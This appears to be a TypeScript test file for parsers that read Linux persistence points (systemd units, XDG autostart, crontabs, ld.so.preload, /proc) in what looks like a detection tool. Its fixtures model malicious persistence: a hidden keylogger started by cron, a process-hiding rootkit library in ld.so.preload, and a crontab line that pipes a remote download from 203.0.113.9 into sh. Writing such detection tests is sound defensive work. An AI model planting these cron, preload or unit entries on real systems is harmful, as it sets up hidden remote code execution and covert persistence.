// The Linux parsers on texts written the way the kernel, systemd, XDG, cron and ld.so write them.
import { describe, expect, it } from 'vitest';
import { unixExecutable, unixWords } from '../command-line.js';
import { parseDesktopEntry } from './autostart.js';
import { parseCrontab } from './cron.js';
import { parsePreload } from './preload.js';
import { executableFromLink, parsePasswd, parseProcStatus } from './processes.js';
import { parseUnitFile } from './systemd.js';

describe('/proc and /etc/passwd', () => {
  it('reads the name, parent and real user of a process', () => {
    const status = 'Name:\tlogkeys\nUmask:\t0022\nState:\tS (sleeping)\nTgid:\t4242\nPid:\t4242\nPPid:\t4100\nUid:\t1000\t0\t0\t0\nGid:\t1000\t1000\t1000\t1000\n';
    expect(parseProcStatus(status)).toEqual({ name: 'logkeys', ppid: 4100, uid: 1000 });
    expect(parseProcStatus('garbage')).toEqual({ name: null, ppid: null, uid: null });
  });
  it('names users by uid and marks programs deleted since they started', () => {
    expect(parsePasswd('root:x:0:0:root:/root:/bin/bash\nzoe:x:1000:1000:Zoé,,,:/home/zoe:/bin/bash\n# comment\n').get(1000)).toBe('zoe');
    expect(executableFromLink('/tmp/.x/agent (deleted)')).toBe('/tmp/.x/agent');
    expect(executableFromLink(null)).toBeNull();
  });
});

describe('systemd units', () => {
  it('reads ExecStart lines with prefixes and continuations, and the reset of an empty assignment', () => {
    const unit = parseUnitFile('[Unit]\nDescription=Sync helper\n\n[Service]\nType=simple\nExecStartPre=/bin/true\nExecStart=-/home/zoe/.local/share/.sync/agent \\\n  --quiet\n# ExecStart=/commented\n[Install]\nWantedBy=default.target\n');
    expect(unit).toEqual({ description: 'Sync helper', execStart: ['/home/zoe/.local/share/.sync/agent    --quiet'] });
    expect(parseUnitFile('[Service]\nExecStart=/a\nExecStart=\nExecStart=@/b argv0 x\n').execStart).toEqual(['/b argv0 x']);
  });
});

describe('XDG autostart entries', () => {
  it('reads Name and Exec, removes field codes and sees entries switched off', () => {
    expect(parseDesktopEntry('[Desktop Entry]\nType=Application\nName=Tracker\nName[fr]=Traqueur\nExec=/opt/tracker/run %U --tray\n[Desktop Action New]\nExec=/other\n')).toEqual({ name: 'Tracker', exec: '/opt/tracker/run --tray', enabled: true });
    expect(parseDesktopEntry('[Desktop Entry]\nName=X\nExec=x\nHidden=true\n').enabled).toBe(false);
    expect(parseDesktopEntry('[Desktop Entry]\nName=X\nExec=x\nX-GNOME-Autostart-enabled=false\n').enabled).toBe(false);
  });
});

describe('crontabs', () => {
  it('reads system crontabs with their user field, and skips comments and variables', () => {
    const jobs = parseCrontab('SHELL=/bin/sh\nPATH=/usr/bin\n# m h dom mon dow user command\n17 *\t* * *\troot    cd / && run-parts --report /etc/cron.hourly\n@reboot zoe /home/zoe/.cache/.k/logkeys -s\nbroken line\n', true);
    expect(jobs).toEqual([
      { schedule: '17 * * * *', user: 'root', command: 'cd / && run-parts --report /etc/cron.hourly' },
      { schedule: '@reboot', user: 'zoe', command: '/home/zoe/.cache/.k/logkeys -s' },
    ]);
  });
  it('reads a user crontab (no user field), keeping the command’s own spacing', () => {
    expect(parseCrontab('*/5 * * * * /usr/bin/curl -s  "http://203.0.113.9/x" | sh\n', false)).toEqual([{ schedule: '*/5 * * * *', user: null, command: '/usr/bin/curl -s  "http://203.0.113.9/x" | sh' }]);
  });
});

describe('ld.so.preload and Unix command lines', () => {
  it('lists preloaded libraries', () => {
    expect(parsePreload('# rootkit\n/usr/local/lib/libprocesshider.so\n/lib/x.so:/lib/y.so\n\n')).toEqual(['/usr/local/lib/libprocesshider.so', '/lib/x.so', '/lib/y.so']);
  });
  it('finds the program past quotes, variables, env and nohup', () => {
    expect(unixWords(`'/opt/My App/run' --name "a \\"b\\"" c\\ d`)).toEqual(['/opt/My App/run', '--name', 'a "b"', 'c d']);
    expect(unixExecutable('LANG=C env TZ=UTC nohup /usr/bin/agent -d')).toBe('/usr/bin/agent');
    expect(unixExecutable('  ')).toBeNull();
  });
});

describe('systemd units enabled from outside the usual folders', () => {
  it('follows a .wants link to a user unit in ~/.local/share/systemd/user', async () => {
    const { makeTempDir, removeDir } = await import('../../../../tests/helpers/temp.js');
    const { systemdCollector } = await import('./systemd.js');
    const fs = await import('node:fs');
    const path = await import('node:path');
    const home = makeTempDir();
    try {
      const unitDir = path.join(home, '.local/share/systemd/user');
      const wants = path.join(home, '.config/systemd/user/default.target.wants');
      fs.mkdirSync(unitDir, { recursive: true });
      fs.mkdirSync(wants, { recursive: true });
      fs.writeFileSync(path.join(unitDir, 'sync-helper.service'), '[Service]\nExecStart=%h/.cache/.k/agent --quiet\n');
      fs.symlinkSync(path.join(unitDir, 'sync-helper.service'), path.join(wants, 'sync-helper.service'));
      const read: string[] = [];
      const found = await systemdCollector().collect({
        platform: 'linux',
        home,
        hasher: undefined as never,
        run: async () => null,
        readFile: async (file: string) => {
          read.push(file);
          const bytes = fs.readFileSync(file);
          return { bytes, text: bytes.toString('utf8'), sha256: 'a'.repeat(64) };
        },
        keep: () => 'a'.repeat(64),
        note: () => undefined,
        progress: () => undefined,
      });
      const unit = found.find((observation) => observation.data.name === 'sync-helper.service');
      expect(unit?.data).toMatchObject({ mechanism: 'systemd-unit', executable: '%h/.cache/.k/agent', enabled: true });
    } finally {
      removeDir(home);
    }
  });
});
